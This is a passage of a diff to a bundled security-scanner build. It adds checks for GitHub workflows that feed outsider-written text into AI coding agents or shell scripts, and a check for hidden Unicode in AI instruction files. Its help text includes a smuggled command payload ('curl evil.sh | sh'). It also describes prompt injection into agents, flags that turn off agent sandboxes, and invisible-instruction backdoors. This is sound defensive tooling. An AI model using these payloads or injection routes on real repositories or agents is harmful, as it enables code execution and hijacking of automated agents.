@@ -44676,7 +44676,7 @@ function consoleLogger(write, verbose) {
 
 /***/ }),
 
-/***/ 89007:
+/***/ 41617:
 /***/ ((__unused_webpack_module, __webpack_exports__, __nccwpck_require__) => {
 
 
@@ -55587,8 +55587,8 @@ const actionsUnpinned = defineCheck({
     run,
 });
 
-;// CONCATENATED MODULE: ./data/checks/ai-instructions-integrity.json
-const ai_instructions_integrity_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"ai-instructions-integrity","title":"Hidden Unicode characters (bidirectional controls, zero-width or tag characters)","description":"A text file contains characters that change how a line is displayed or that are not displayed at all: bidirectional controls (U+202A–U+202E, U+2066–U+2069), which make code or text appear in a different order than compilers, interpreters and language models read it (\\"Trojan Source\\", CVE-2021-42574); zero-width characters (U+200B–U+200D, U+2060, U+FEFF after the start of a file), which hide inside words and identifiers; and Unicode tag characters (U+E0000–U+E007F) or supplementary variation selectors, which encode whole invisible sentences that language models read. In AI assistant instruction files (CLAUDE.md, AGENTS.md, .cursorrules, Copilot instructions, …) they are a known way to plant instructions reviewers cannot see (\\"rules file backdoor\\"). Emoji sequences, letters of scripts that need joiners, flag tag sequences and ideographic variation sequences are not reported.","help":"Look at the line in an editor or viewer that shows invisible characters (GitHub marks bidirectional text with a warning; `cat -A`, `grep -nP \'[\\\\x{202A}-\\\\x{202E}\\\\x{2066}-\\\\x{2069}\\\\x{200B}-\\\\x{200D}\\\\x{2060}\\\\x{FEFF}]\'` or your editor\'s \\"render control characters\\" setting), find out who added it and why, and remove it unless it is genuinely needed text. If a string needs such a character, write it as an escape (`\\\\u202E`) so reviewers can see it. Treat hidden text in an AI assistant instruction file as a prompt-injection attempt: review everything the assistant produced while it was present.\\n\\nReferences:\\n- N. Boucher and R. Anderson, [Trojan Source: Invisible Vulnerabilities](https://trojansource.codes/)\\n- NVD, [CVE-2021-42574](https://nvd.nist.gov/vuln/detail/CVE-2021-42574)\\n- GitHub, [Warning about bidirectional Unicode text](https://github.blog/changelog/2021-10-31-warning-about-bidirectional-unicode-text/)\\n- Unicode, [Tags block (U+E0000–U+E007F)](https://www.unicode.org/charts/PDF/UE0000.pdf)\\n- OpenSSF, [Security-Focused Guide for AI Code Assistant Instructions](https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions)","helpUri":"https://trojansource.codes/","cwe":["CWE-1007","CWE-451"],"severity":"high","security-severity":7.8,"precision":"high","tags":["security","unicode","trojan-source","ai-assistant","prompt-injection"],"asvs":[],"$comment":"Columns count UTF-16 code units, like every builtin check and SARIF\'s default. hidden-characters: code point ranges (hex) with one name per code point, or one group name for the range. instruction-files: paths (regular expressions) whose findings say they are AI assistant instruction files. skipped-extensions: binary or generated formats not read at all. translation-catalogs: extensions of message catalogs, whose right-to-left and complex-script text needs bidirectional controls and joiners; there only invisible-text characters are reported.","hidden-characters":[{"kind":"bidi","from":"202A","to":"202E","names":["LEFT-TO-RIGHT EMBEDDING","RIGHT-TO-LEFT EMBEDDING","POP DIRECTIONAL FORMATTING","LEFT-TO-RIGHT OVERRIDE","RIGHT-TO-LEFT OVERRIDE"]},{"kind":"bidi","from":"2066","to":"2069","names":["LEFT-TO-RIGHT ISOLATE","RIGHT-TO-LEFT ISOLATE","FIRST STRONG ISOLATE","POP DIRECTIONAL ISOLATE"]},{"kind":"zero-width","from":"200B","to":"200D","names":["ZERO WIDTH SPACE","ZERO WIDTH NON-JOINER","ZERO WIDTH JOINER"]},{"kind":"zero-width","from":"2060","to":"2060","names":["WORD JOINER"]},{"kind":"zero-width","from":"FEFF","to":"FEFF","names":["ZERO WIDTH NO-BREAK SPACE"]},{"kind":"invisible-text","from":"E0000","to":"E007F","group":"TAG characters"},{"kind":"invisible-text","from":"E0100","to":"E01EF","group":"VARIATION SELECTORS 17-256"}],"instruction-files":["(?:^|/)CLAUDE(?:\\\\.local)?\\\\.md$","(?:^|/)AGENTS?\\\\.md$","(?:^|/)GEMINI\\\\.md$","(?:^|/)CONVENTIONS\\\\.md$","(?:^|/)\\\\.cursorrules$","(?:^|/)\\\\.cursor/rules/","(?:^|/)\\\\.windsurfrules$","(?:^|/)\\\\.windsurf/rules/","(?:^|/)\\\\.clinerules(?:/|$)","(?:^|/)\\\\.roorules$","(?:^|/)\\\\.roo/rules(?:-[^/]+)?/","(?:^|/)\\\\.github/copilot-instructions\\\\.md$","(?:^|/)\\\\.github/instructions/","(?:^|/)\\\\.github/prompts/","(?:^|/)\\\\.github/chatmodes/","(?:^|/)\\\\.junie/guidelines\\\\.md$","(?:^|/)\\\\.kiro/steering/","(?:^|/)\\\\.amazonq/rules/","(?:^|/)\\\\.aider\\\\.conf\\\\.ya?ml$","(?:^|/)\\\\.claude/(?:agents|commands|skills)/"],"skipped-extensions":["png","jpg","jpeg","gif","bmp","ico","icns","webp","avif","tif","tiff","psd","pdf","zip","gz","tgz","bz2","xz","zst","7z","rar","jar","war","ear","class","dll","exe","so","dylib","a","o","obj","lib","bin","wasm","pyc","pyo","whl","woff","woff2","ttf","otf","eot","mp3","mp4","m4a","wav","ogg","flac","mov","avi","mkv","webm","db","sqlite","sqlite3","parquet","avro","onnx","pt","pth","safetensors","npy","npz","pkl","h5","map"],"translation-catalogs":["po","pot","xlf","xliff","strings","stringsdict","arb","ftl","resx"]}');
+;// CONCATENATED MODULE: ./data/checks/agent-workflow-untrusted-prompt.json
+const agent_workflow_untrusted_prompt_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"agent-workflow-untrusted-prompt","title":"AI agent in a workflow that outsiders can drive","description":"A workflow runs an AI coding agent (claude-code-action, codex-action, run-gemini-cli, or an agent CLI in a `run:` script) on an event that anyone who can open an issue, comment or pull request can fire, and one of these holds: text those outsiders write (an issue or comment body, a pull request title, a branch name) is pasted into the agent\'s prompt or arguments, so the text can instruct the agent (prompt injection); the job\'s token can write to the repository, or the agent is handed a personal access token, so an injected instruction can push code or change the repository; the action is told to take instructions from any user or bot (`*`); or the agent runs with its approvals and sandbox switched off, so whatever it is told to run, it runs.","help":"Treat every prompt built from event text as written by the attacker. Do not paste `${{ github.event.* }}` text into `prompt:` or the agent\'s command line: let the agent read the issue or pull request itself through a read-only tool, and keep the instructions in the workflow constant. Give the job `permissions:` with `contents: read` (and only the `issues: write` or `pull-requests: write` it needs to comment), never `write-all`, and let the action use the job\'s token rather than a personal access token. Keep the actions\' allow-lists to named users, and keep the agent\'s sandbox and approval prompts on (no `--dangerously-skip-permissions`, `--yolo`, `danger-full-access` or `safety-strategy: unsafe`); restrict tools to the few the task needs.\\n\\nReferences:\\n- OWASP, [LLM01:2025 Prompt Injection](https://genai.owasp.org/llmrisk/llm01-prompt-injection/)\\n- GitHub, [Security hardening for GitHub Actions: script injections](https://docs.github.com/en/actions/concepts/security/script-injections)\\n- Anthropic, [claude-code-action security](https://github.com/anthropics/claude-code-action/blob/main/docs/security.md)\\n- OpenAI, [codex-action security](https://github.com/openai/codex-action/blob/main/docs/security.md)","helpUri":"https://genai.owasp.org/llmrisk/llm01-prompt-injection/","cwe":["CWE-1427","CWE-74"],"severity":"high","security-severity":8.1,"precision":"high","tags":["security","ai-agent","prompt-injection","github-actions"],"asvs":[],"$comment":"Actions that run an agent (matched like `uses:`, any version), regular expressions for agent CLIs started in a `run:` script, the events outsiders can fire with a token that is not read-only (pull_request from forks gets neither secrets nor a writing token, so it is not listed), the inputs that take allow-lists, and what in an agent step\'s inputs or script switches its approvals or sandbox off.","agent-actions":["anthropics/claude-code-action","anthropics/claude-code-base-action","openai/codex-action","google-github-actions/run-gemini-cli","google-gemini/gemini-cli-action"],"agent-cli-patterns":["(?:^|[\\\\s;&|(`])(?:npx\\\\s+(?:-y\\\\s+)?)?(?:@anthropic-ai/claude-code|claude)\\\\s+(?:-p|--print|--dangerously|--permission-mode|--allowedTools|\\"|\')","(?:^|[\\\\s;&|(`])(?:npx\\\\s+(?:-y\\\\s+)?)?(?:@openai/codex|codex)\\\\s+(?:exec|e)\\\\b","(?:^|[\\\\s;&|(`])(?:npx\\\\s+(?:-y\\\\s+)?)?(?:@google/gemini-cli|gemini)\\\\s+(?:-p|--prompt|--yolo|-y\\\\b|--approval-mode)","(?:^|[\\\\s;&|(`])aider\\\\s+(?:--message|-m|--yes-always)\\\\b","(?:^|[\\\\s;&|(`])opencode\\\\s+run\\\\b"],"outsider-triggers":["issues","issue_comment","discussion","discussion_comment","pull_request_target","pull_request_review","pull_request_review_comment","workflow_run"],"allow-list-inputs":["allowed_non_write_users","allowed_bots","allow-users","allow-bots"],"token-inputs":["github_token","github-token"],"unsafe-settings":["--dangerously-skip-permissions","bypassPermissions","--dangerously-bypass-approvals-and-sandbox","danger-full-access","--yolo\\\\b","approval-?mode[\\"\'\\\\s:=]+[\\"\']?yolo","--allowed-?tools[=\\\\s]+[\\"\']?Bash(?:\\\\(\\\\*\\\\))?(?=[\\"\',\\\\s]|$)","\\\\bBash\\\\(\\\\*\\\\)","--yes-always"],"unsafe-inputs":["safety-strategy=unsafe","sandbox=danger-full-access"]}');
 ;// CONCATENATED MODULE: ./src/scanners/builtin/check-data.ts
 
 /**
@@ -55672,6 +55672,327 @@ function dataNumber(meta, key) {
     return value;
 }
 
+;// CONCATENATED MODULE: ./data/checks/workflow-injection.json
+const workflow_injection_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"workflow-injection","title":"Attacker-controlled text expanded into a workflow script","description":"A `run:` script or the `script:` of actions/github-script contains a `${{ … }}` expression that expands text an outsider controls: the title or body of an issue, pull request, comment or review, a branch name, a commit message or author, a wiki page name. GitHub substitutes the text into the script before the shell or JavaScript runs it, so a title such as `\\"; curl evil.sh | sh; #` becomes code running with the workflow\'s token and secrets.","help":"Never expand untrusted context values inside a script. Pass them to the step as environment variables and use the variable, quoted, so the shell treats the value as data:\\n\\n```yaml\\n# instead of\\n- run: echo \\"${{ github.event.issue.title }}\\"\\n# write\\n- env:\\n    TITLE: ${{ github.event.issue.title }}\\n  run: echo \\"$TITLE\\"\\n```\\n\\nIn actions/github-script, read the value from `context.payload` or from `process.env` instead of expanding it into `script:`. Whole objects such as `toJSON(github.event)` carry the same text and need the same treatment. Where possible, also give the workflow\'s token only the permissions it needs.\\n\\nReferences:\\n- GitHub, [Script injections](https://docs.github.com/en/actions/concepts/security/script-injections)\\n- GitHub Security Lab, [Keeping your GitHub Actions and workflows secure: untrusted input](https://securitylab.github.com/resources/github-actions-untrusted-input/)","helpUri":"https://docs.github.com/en/actions/concepts/security/script-injections","cwe":["CWE-78","CWE-94"],"severity":"high","security-severity":8.8,"precision":"high","tags":["security","injection","github-actions"],"asvs":["v5.0.0-1.2.5","v5.0.0-1.3.2"],"$comment":"Context paths whose values outsiders control, after GitHub\'s own list (contexts ending in body, default_branch, email, head_ref, label, message, name, page_name, ref, title) and GitHub Security Lab\'s. `*` stands for one array index or object filter. An expression naming a path, or an object that contains one (toJSON(github.event)), is reported.","untrusted-contexts":["github.head_ref","github.event.issue.title","github.event.issue.body","github.event.pull_request.title","github.event.pull_request.body","github.event.pull_request.head.ref","github.event.pull_request.head.label","github.event.pull_request.head.repo.default_branch","github.event.comment.body","github.event.review.body","github.event.review_comment.body","github.event.discussion.title","github.event.discussion.body","github.event.pages.*.page_name","github.event.commits.*.message","github.event.commits.*.author.email","github.event.commits.*.author.name","github.event.commits.*.committer.email","github.event.commits.*.committer.name","github.event.head_commit.message","github.event.head_commit.author.email","github.event.head_commit.author.name","github.event.head_commit.committer.email","github.event.head_commit.committer.name","github.event.workflow_run.head_branch","github.event.workflow_run.display_title","github.event.workflow_run.head_commit.message","github.event.workflow_run.head_commit.author.email","github.event.workflow_run.head_commit.author.name","github.event.workflow_run.pull_requests.*.head.ref"]}');
+;// CONCATENATED MODULE: ./src/scanners/builtin/workflow-expressions.ts
+
+
+// `${{ }}` expressions in workflow text, and which of them expand values outside contributors control
+// (the list is workflow-injection's data: one list for every check that asks).
+const UNTRUSTED = dataStrings(workflow_injection_namespaceObject, 'untrusted-contexts').map((path) => path.toLowerCase().split('.'));
+const CONTEXT_PATH = /(?<![\w.-])github(?:\.(?:[a-z_][\w-]*|\*))*/g;
+/** Context names are case-insensitive; `a['b']` is `a.b`, `a[0]` is `a.*`; string literals are not names. */
+function workflow_expressions_normalize(expression) {
+    return expression
+        .toLowerCase()
+        .replace(/\[\s*'([^']*)'\s*\]/g, '.$1')
+        .replace(/\[\s*(?:\d+|\*)\s*\]/g, '.*')
+        .replace(/'(?:[^']|'')*'/g, "''")
+        .replace(/\s*\.\s*/g, '.');
+}
+/** A path names an untrusted value, or an object holding one (`toJSON(github.event)`). */
+function untrustedPattern(path) {
+    return UNTRUSTED.find((pattern) => path.length <= pattern.length &&
+        path.every((segment, at) => segment === '*' || pattern[at] === '*' || segment === pattern[at]));
+}
+/** How a message names each untrusted value an expression expands. */
+function untrustedValues(expression) {
+    const named = new Set();
+    for (const match of workflow_expressions_normalize(expression).matchAll(CONTEXT_PATH)) {
+        const path = match[0].split('.');
+        const pattern = untrustedPattern(path);
+        if (pattern === undefined)
+            continue;
+        named.add(path.length === pattern.length
+            ? `\`${match[0]}\``
+            : `\`${match[0]}\` (which holds \`${pattern.join('.')}\`)`);
+    }
+    return [...named];
+}
+/** The `${{ … }}` expressions as written in the scalar's source, so positions are exact in block scalars too. */
+function expressionsIn(text, scalar) {
+    if (!scalar.range)
+        return [];
+    const [from, to] = scalar.range;
+    const source = text.slice(from, to);
+    const found = [];
+    let open = source.indexOf('${{');
+    while (open >= 0) {
+        const close = source.indexOf('}}', open + 3);
+        if (close < 0)
+            break;
+        found.push({ start: from + open, end: from + close + 2, text: source.slice(open, close + 2) });
+        open = source.indexOf('${{', close + 2);
+    }
+    return found;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/yaml-nodes.ts
+
+/**
+ * Read-only navigation of parsed YAML for checks: every helper takes `unknown`, follows aliases and answers
+ * "nothing" for a node of the wrong kind, so hostile or odd documents never throw.
+ */
+function yaml_nodes_resolve(node, document) {
+    return (0,yaml_dist/* isAlias */.Vj)(node) ? node.resolve(document) : node;
+}
+/** The string-keyed entries of a mapping, values resolved; empty for anything that is not a mapping. */
+function entriesOf(node, document) {
+    const map = yaml_nodes_resolve(node, document);
+    if (!(0,yaml_dist/* isMap */.jh)(map))
+        return [];
+    return map.items.flatMap((pair) => (0,yaml_dist/* isScalar */.jn)(pair.key) && typeof pair.key.value === 'string'
+        ? [{ key: pair.key.value, keyNode: pair.key, value: yaml_nodes_resolve(pair.value, document) }]
+        : []);
+}
+function entryOf(node, key, document) {
+    return entriesOf(node, document).find((entry) => entry.key === key);
+}
+/** The value under `key` in a mapping, following aliases. */
+function yaml_nodes_valueOf(node, key, document) {
+    return entryOf(node, key, document)?.value;
+}
+function yaml_nodes_itemsOf(node, document) {
+    const seq = yaml_nodes_resolve(node, document);
+    return (0,yaml_dist/* isSeq */.oP)(seq) ? seq.items.map((item) => yaml_nodes_resolve(item, document)) : [];
+}
+function stringScalar(node) {
+    return (0,yaml_dist/* isScalar */.jn)(node) && typeof node.value === 'string' ? node : undefined;
+}
+function stringOf(node) {
+    return stringScalar(node)?.value;
+}
+/** Line starts of any text, so non-YAML checks report positions exactly as `scalarRegion` does. */
+function lineCounterOf(text) {
+    const lines = new yaml_dist/* LineCounter */.HN();
+    lines.addNewLine(0);
+    for (let at = text.indexOf('\n'); at >= 0; at = text.indexOf('\n', at + 1))
+        lines.addNewLine(at + 1);
+    return lines;
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/workflow-model.ts
+
+
+/** GitHub reads workflows only from this directory, not from its subdirectories. */
+const workflow_model_WORKFLOW = /^\.github\/workflows\/[^/]+\.ya?ml$/;
+const workflow_model_ACTION_METADATA = /(?:^|\/)action\.ya?ml$/;
+const isWorkflow = (path) => workflow_model_WORKFLOW.test(path);
+const isWorkflowOrAction = (path) => workflow_model_WORKFLOW.test(path) || workflow_model_ACTION_METADATA.test(path);
+/**
+ * Parses a workflow or action file, answering undefined when it is not valid YAML. The checks on these files
+ * stay silent then: actions-unpinned reads the same files and already reports each one that does not parse,
+ * and one note per file is enough.
+ */
+function parseWorkflowFile(file) {
+    const parsed = check_parseYaml(file);
+    return parsed.kind === 'parsed' ? parsed : undefined;
+}
+function jobsOf(document) {
+    return entriesOf(yaml_nodes_valueOf(document.contents, 'jobs', document), document).map((entry) => ({
+        id: entry.key,
+        node: entry.value,
+    }));
+}
+function compositeSteps(document) {
+    const runs = yaml_nodes_valueOf(document.contents, 'runs', document);
+    if (stringOf(yaml_nodes_valueOf(runs, 'using', document))
+        ?.trim()
+        .toLowerCase() !== 'composite')
+        return [];
+    return yaml_nodes_itemsOf(yaml_nodes_valueOf(runs, 'steps', document), document).map((node, at) => ({
+        node,
+        job: undefined,
+        index: at + 1,
+    }));
+}
+/** Every step of every job of a workflow, or of a composite action (other actions have no steps). */
+function stepsOf(path, document) {
+    if (!isWorkflow(path))
+        return compositeSteps(document);
+    return jobsOf(document).flatMap((job) => yaml_nodes_itemsOf(yaml_nodes_valueOf(job.node, 'steps', document), document).map((node, at) => ({
+        node,
+        job: job.id,
+        index: at + 1,
+    })));
+}
+/** How a message names a step: by its `name:` when it has one, else by position. */
+function describeStep(step, document) {
+    const name = stringOf(yaml_nodes_valueOf(step.node, 'name', document));
+    const which = name === undefined ? `step ${step.index}` : `step "${name.slice(0, 80)}"`;
+    return step.job === undefined ? which : `${which} of job \`${step.job}\``;
+}
+/** The events a workflow runs on: `on:` as one name, a list of names or a mapping keyed by event. */
+function triggersOf(document) {
+    const on = yaml_nodes_valueOf(document.contents, 'on', document);
+    const single = stringOf(on);
+    if (single !== undefined)
+        return new Set([single.trim()]);
+    const listed = yaml_nodes_itemsOf(on, document).flatMap((item) => stringOf(item) ?? []);
+    const keyed = entriesOf(on, document).map((entry) => entry.key);
+    return new Set([...listed, ...keyed].map((event) => event.trim()));
+}
+/** Whether a step runs the action `name` (any version; matching is case-insensitive, like GitHub's). */
+function workflow_model_stepUses(step, name, document) {
+    const uses = stringOf(yaml_nodes_valueOf(step.node, 'uses', document))
+        ?.trim()
+        .toLowerCase();
+    return uses !== undefined && (uses === name || uses.startsWith(`${name}@`));
+}
+
+;// CONCATENATED MODULE: ./src/scanners/builtin/checks/agent-workflow-untrusted-prompt.ts
+
+
+
+
+
+
+const AGENT_ACTIONS = dataStrings(agent_workflow_untrusted_prompt_namespaceObject, 'agent-actions');
+const AGENT_CLIS = dataPatterns(agent_workflow_untrusted_prompt_namespaceObject, 'agent-cli-patterns', 'm');
+const OUTSIDER_TRIGGERS = dataStrings(agent_workflow_untrusted_prompt_namespaceObject, 'outsider-triggers');
+const ALLOW_LISTS = new Set(dataStrings(agent_workflow_untrusted_prompt_namespaceObject, 'allow-list-inputs'));
+const TOKEN_INPUTS = new Set(dataStrings(agent_workflow_untrusted_prompt_namespaceObject, 'token-inputs'));
+const UNSAFE_SETTINGS = dataPatterns(agent_workflow_untrusted_prompt_namespaceObject, 'unsafe-settings', 'i');
+const UNSAFE_INPUTS = new Map(dataStrings(agent_workflow_untrusted_prompt_namespaceObject, 'unsafe-inputs').map((pair) => pair.split('=', 2)));
+const MAX_EVIDENCE = 200;
+function agentOf(step, document) {
+    const action = AGENT_ACTIONS.find((name) => workflow_model_stepUses(step, name, document));
+    if (action)
+        return action;
+    const run = stringOf(yaml_nodes_valueOf(step.node, 'run', document));
+    const cli = run === undefined ? undefined : AGENT_CLIS.map((pattern) => pattern.exec(run)).find(Boolean);
+    return cli ? `an agent CLI (\`${cli[0].trim().slice(0, 60)}\`)` : undefined;
+}
+function scalarsOf(node, document) {
+    return entriesOf(node, document).flatMap((entry) => {
+        const scalar = stringScalar(entry.value);
+        return scalar ? [{ key: entry.key, scalar }] : [];
+    });
+}
+function agentSteps(path, document) {
+    return stepsOf(path, document).flatMap((step) => {
+        const agent = agentOf(step, document);
+        if (agent === undefined)
+            return [];
+        const run = stringScalar(yaml_nodes_valueOf(step.node, 'run', document));
+        const inputs = [
+            ...scalarsOf(yaml_nodes_valueOf(step.node, 'with', document), document),
+            ...scalarsOf(yaml_nodes_valueOf(step.node, 'env', document), document),
+            ...(run ? [{ key: 'run', scalar: run }] : []),
+        ];
+        return [{ step, name: describeStep(step, document), agent, inputs }];
+    });
+}
+function detection(context, region, message, evidence, severity) {
+    return {
+        ruleId: context.rule.id,
+        message,
+        location: { path: context.file.path, ...(region ? { region } : {}) },
+        evidence: evidence.slice(0, MAX_EVIDENCE),
+        ...(severity ? { severity } : {}),
+    };
+}
+const on = (context) => context.outsiders.map((event) => `\`${event}\``).join(' and ');
+/** Event text outsiders write, pasted into what the agent reads. */
+function untrustedPrompts(agent, context) {
+    return agent.inputs.flatMap(({ key, scalar }) => expressionsIn(context.file.text, scalar).flatMap((expression) => {
+        const values = untrustedValues(expression.text);
+        if (values.length === 0)
+            return [];
+        const start = context.lines.linePos(expression.start);
+        const end = context.lines.linePos(expression.end);
+        const region = { startLine: start.line, startColumn: start.col, endLine: end.line, endColumn: end.col };
+        return [
+            detection(context, region, `Prompt injection: \`${key}\` of ${agent.name} gives ${agent.agent} text that whoever fires ${on(context)} writes ` +
+                `(${values.join(', ')}), so that text can instruct the agent, with the job's token and secrets at hand. ` +
+                'Keep the prompt constant and let the agent read the issue or pull request through a read-only tool.', expression.text),
+        ];
+    }));
+}
+function permissionsNode(agent, document) {
+    const job = jobsOf(document).find((candidate) => candidate.id === agent.step.job);
+    const own = job ? yaml_nodes_valueOf(job.node, 'permissions', document) : undefined;
+    return own ?? yaml_nodes_valueOf(document.contents, 'permissions', document);
+}
+/** A token that can push: `write-all`, `contents: write`, or a personal access token handed to the agent. */
+function writeTokens(agent, context) {
+    const { document, lines } = context;
+    const found = [];
+    const permissions = permissionsNode(agent, document);
+    const all = stringScalar(permissions);
+    const contents = stringScalar(yaml_nodes_valueOf(permissions, 'contents', document));
+    const writing = all?.value.trim() === 'write-all' ? all : contents?.value.trim() === 'write' ? contents : undefined;
+    if (writing) {
+        found.push(detection(context, scalarRegion(writing, lines), `The token of the job running ${agent.agent} (${agent.name}) can write the repository's contents ` +
+            `(\`${writing === all ? 'write-all' : 'contents: write'}\`) on ${on(context)}: one injected instruction ` +
+            'can push code. Give the job `contents: read` and only the write scopes it needs to comment.', writing === all ? 'permissions: write-all' : 'contents: write'));
+    }
+    for (const { key, scalar } of agent.inputs) {
+        if (!TOKEN_INPUTS.has(key))
+            continue;
+        const secret = /\$\{\{\s*secrets\.([\w-]+)\s*\}\}/i.exec(scalar.value)?.[1];
+        if (secret === undefined || secret.toUpperCase() === 'GITHUB_TOKEN')
+            continue;
+        found.push(detection(context, scalarRegion(scalar, lines), `${agent.name} hands ${agent.agent} the secret \`${secret}\` as its GitHub token on ${on(context)}: a ` +
+            "personal access token reaches beyond this job's permissions, and an injected instruction gets all of it. " +
+            "Use the job's own token with narrow `permissions:`.", `${key}: secrets.${secret}`));
+    }
+    return found;
+}
+function allowsEveryone(agent, context) {
+    return agent.inputs.flatMap(({ key, scalar }) => {
+        if (!ALLOW_LISTS.has(key))
+            return [];
+        if (!scalar.value.split(/[\s,]+/).includes('*'))
+            return [];
+        return [
+            detection(context, scalarRegion(scalar, context.lines), `\`${key}: "*"\` lets anyone drive ${agent.agent} (${agent.name}): every user or bot that can write an ` +
+                'issue or comment becomes someone the agent takes instructions from. List the accounts by name.', `${key}: ${scalar.value.trim()}`, context.outsiders.length > 0 ? undefined : 'medium'),
+        ];
+    });
+}
+/** Approval prompts or the sandbox switched off: whatever the agent is told to run, it runs. */
+function unsafeModes(agent, context) {
+    return agent.inputs.flatMap(({ key, scalar }) => {
+        const pinned = UNSAFE_INPUTS.get(key);
+        const setting = pinned !== undefined && scalar.value.trim() === pinned
+            ? `${key}: ${pinned}`
+            : UNSAFE_SETTINGS.map((pattern) => pattern.exec(scalar.value)?.[0]).find(Boolean);
+        if (setting === undefined)
+            return [];
+        const where = context.outsiders.length > 0 ? ` on ${on(context)}` : '';
+        return [
+            detection(context, scalarRegion(scalar, context.lines), `${agent.name} runs ${agent.agent} with its safeguards off (\`${setting}\`)${where}: it runs whatever ` +
+                'commands it is led to, with no approval and no sandbox. Keep the sandbox and approvals on and allow only ' +
+                'the tools the task needs.', setting, context.outsiders.length > 0 ? undefined : 'medium'),
+        ];
+    });
+}
+function agent_workflow_untrusted_prompt_run(file, rule) {
+    const parsed = parseWorkflowFile(file);
+    if (parsed === undefined)
+        return SKIP;
+    const detections = [];
+    for (const document of parsed.documents) {
+        const triggers = triggersOf(document);
+        const outsiders = OUTSIDER_TRIGGERS.filter((event) => triggers.has(event));
+        const context = { file, lines: parsed.lines, rule, document, outsiders };
+        for (const agent of agentSteps(file.path, document)) {
+            if (outsiders.length > 0)
+                detections.push(...untrustedPrompts(agent, context), ...writeTokens(agent, context));
+            detections.push(...allowsEveryone(agent, context), ...unsafeModes(agent, context));
+        }
+    }
+    const unique = new Map(detections.map((d) => [
+        `${d.location.region?.startLine}:${d.location.region?.startColumn}:${d.message}`,
+        d,
+    ]));
+    return unique.size === 0 ? SKIP : { detections: [...unique.values()], notes: [] };
+}
+const agentWorkflowUntrustedPrompt = defineCheck({ meta: agent_workflow_untrusted_prompt_namespaceObject, appliesTo: isWorkflow, run: agent_workflow_untrusted_prompt_run });
+
+;// CONCATENATED MODULE: ./data/checks/ai-instructions-integrity.json
+const ai_instructions_integrity_namespaceObject = /*#__PURE__*/JSON.parse('{"id":"ai-instructions-integrity","title":"Hidden Unicode characters (bidirectional controls, zero-width or tag characters)","description":"A text file contains characters that change how a line is displayed or that are not displayed at all: bidirectional controls (U+202A–U+202E, U+2066–U+2069), which make code or text appear in a different order than compilers, interpreters and language models read it (\\"Trojan Source\\", CVE-2021-42574); zero-width characters (U+200B–U+200D, U+2060, U+FEFF after the start of a file), which hide inside words and identifiers; and Unicode tag characters (U+E0000–U+E007F) or supplementary variation selectors, which encode whole invisible sentences that language models read. In AI assistant instruction files (CLAUDE.md, AGENTS.md, .cursorrules, Copilot instructions, …) they are a known way to plant instructions reviewers cannot see (\\"rules file backdoor\\"). Emoji sequences, letters of scripts that need joiners, flag tag sequences and ideographic variation sequences are not reported.","help":"Look at the line in an editor or viewer that shows invisible characters (GitHub marks bidirectional text with a warning; `cat -A`, `grep -nP \'[\\\\x{202A}-\\\\x{202E}\\\\x{2066}-\\\\x{2069}\\\\x{200B}-\\\\x{200D}\\\\x{2060}\\\\x{FEFF}]\'` or your editor\'s \\"render control characters\\" setting), find out who added it and why, and remove it unless it is genuinely needed text. If a string needs such a character, write it as an escape (`\\\\u202E`) so reviewers can see it. Treat hidden text in an AI assistant instruction file as a prompt-injection attempt: review everything the assistant produced while it was present.\\n\\nReferences:\\n- N. Boucher and R. Anderson, [Trojan Source: Invisible Vulnerabilities](https://trojansource.codes/)\\n- NVD, [CVE-2021-42574](https://nvd.nist.gov/vuln/detail/CVE-2021-42574)\\n- GitHub, [Warning about bidirectional Unicode text](https://github.blog/changelog/2021-10-31-warning-about-bidirectional-unicode-text/)\\n- Unicode, [Tags block (U+E0000–U+E007F)](https://www.unicode.org/charts/PDF/UE0000.pdf)\\n- OpenSSF, [Security-Focused Guide for AI Code Assistant Instructions](https://best.openssf.org/Security-Focused-Guide-for-AI-Code-Assistant-Instructions)","helpUri":"https://trojansource.codes/","cwe":["CWE-1007","CWE-451"],"severity":"high","security-severity":7.8,"precision":"high","tags":["security","unicode","trojan-source","ai-assistant","prompt-injection"],"asvs":[],"$comment":"Columns count UTF-16 code units, like every builtin check and SARIF\'s default. hidden-characters: code point ranges (hex) with one name per code point, or one group name for the range. instruction-files: paths (regular expressions) whose findings say they are AI assistant instruction files. skipped-extensions: binary or generated formats not read at all. translation-catalogs: extensions of message catalogs, whose right-to-left and complex-script text needs bidirectional controls and joiners; there only invisible-text characters are reported.","hidden-characters":[{"kind":"bidi","from":"202A","to":"202E","names":["LEFT-TO-RIGHT EMBEDDING","RIGHT-TO-LEFT EMBEDDING","POP DIRECTIONAL FORMATTING","LEFT-TO-RIGHT OVERRIDE","RIGHT-TO-LEFT OVERRIDE"]},{"kind":"bidi","from":"2066","to":"2069","names":["LEFT-TO-RIGHT ISOLATE","RIGHT-TO-LEFT ISOLATE","FIRST STRONG ISOLATE","POP DIRECTIONAL ISOLATE"]},{"kind":"zero-width","from":"200B","to":"200D","names":["ZERO WIDTH SPACE","ZERO WIDTH NON-JOINER","ZERO WIDTH JOINER"]},{"kind":"zero-width","from":"2060","to":"2060","names":["WORD JOINER"]},{"kind":"zero-width","from":"FEFF","to":"FEFF","names":["ZERO WIDTH NO-BREAK SPACE"]},{"kind":"invisible-text","from":"E0000","to":"E007F","group":"TAG characters"},{"kind":"invisible-text","from":"E0100","to":"E01EF","group":"VARIATION SELECTORS 